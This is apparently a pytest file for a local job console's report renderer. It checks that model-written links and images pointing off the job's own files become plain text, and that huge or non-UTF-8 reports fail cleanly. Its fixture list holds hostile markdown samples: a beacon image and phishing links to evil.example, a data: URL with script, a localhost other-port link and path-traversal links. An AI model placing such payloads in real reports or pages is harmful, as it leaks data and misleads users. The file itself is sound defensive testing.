"""The rendered report points nowhere but at the job's own files and its own anchors. A model's link to
another site would open that site inside the console's frame (a page asking for the person's keys, or a
server on another port of 127.0.0.1, which the console's SameSite cookie reaches: cookies ignore ports),
and an image from another site would carry data out as soon as the report is shown. And a report file
the console cannot render cheaply (huge, or not UTF-8) gets one line, not the console's memory or a 500."""

from __future__ import annotations

import json
import tracemalloc
from html.parser import HTMLParser

import pytest
from starlette.testclient import TestClient

from ops.invoke.job import new_session_id
from ops.local.models import ModelFor
from ops.web.app import create_app, safe_report_html
from ops.web.jobs import Jobs

FOREIGN = [
    "[자료 출처](https://evil.example/phish?total=157685452)",
    "<https://evil.example/autolink>",
    "[같은 사이트의 다른 포트](http://127.0.0.1:9/collect)",
    "[프로토콜 상대](//evil.example/relative)",
    "[콘솔의 다른 경로](/api/jobs)",
    "![비콘](https://evil.example/beacon.png?d=157685452)",
    "[데이터](data:text/html,<script>alert(1)</script>)",
    "[다른 작업](../../deep-insight-20260101T000000Z-0123456789abcdef0123456789abcdef/files/x.html)",
    "[인코딩된 상위](%2e%2e/%2E%2E/other/files/x.html)",
    "[역슬래시](\\\\evil.example/x)",
]


class Targets(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("href", "src")]


def targets(html: str) -> list[str]:
    parser = Targets()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("markdown", FOREIGN)
def test_a_link_or_image_off_the_job_is_text_not_a_target(markdown):
    assert targets(safe_report_html(f"보고서 {markdown}\n")) == []


def test_the_jobs_own_files_and_anchors_stay_links():
    html = safe_report_html("![차트](sales_by_category.png) [자세히](details.csv) [위로](#ref-1)\n")
    assert targets(html) == ["sales_by_category.png", "details.csv", "#ref-1"]


def no_models() -> ModelFor:
    raise AssertionError("no job starts in these tests")


def console_with_report(tmp_path, content: bytes) -> tuple[TestClient, str]:
    """The console's app over a runs folder holding one job whose final_report.md is ``content``."""
    session_id = new_session_id()
    folder = tmp_path / session_id
    folder.mkdir()
    (folder / "job.json").write_text(json.dumps({"sessionId": session_id, "question": "q"}), encoding="utf-8")
    (folder / "final_report.md").write_bytes(content)
    jobs = Jobs(tmp_path, model_for=no_models)  # no job starts here
    client = TestClient(create_app(jobs, "t"), raise_server_exceptions=False)
    return client, f"/api/jobs/{session_id}/files/final_report.html?token=t"


def test_a_report_too_big_to_read_is_refused_in_one_line_not_rendered(tmp_path):
    client, url = console_with_report(tmp_path, b"| a | b |\n|---|---|\n" + b"| 1 | 2 |\n" * 200_000)
    tracemalloc.start()
    answer = client.get(url)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert answer.status_code >= 400
    assert "final_report.md" in answer.json()["error"]
    assert peak < 16 * 1024 * 1024, f"{peak:,} bytes held to refuse a 2 MB report"  # rendering it: ~1 GB


def test_a_report_that_is_not_utf8_is_shown_not_a_server_error(tmp_path):
    client, url = console_with_report(tmp_path, b"# \xff\xfe report\n")
    answer = client.get(url)
    assert answer.status_code == 200
    assert "report" in answer.text
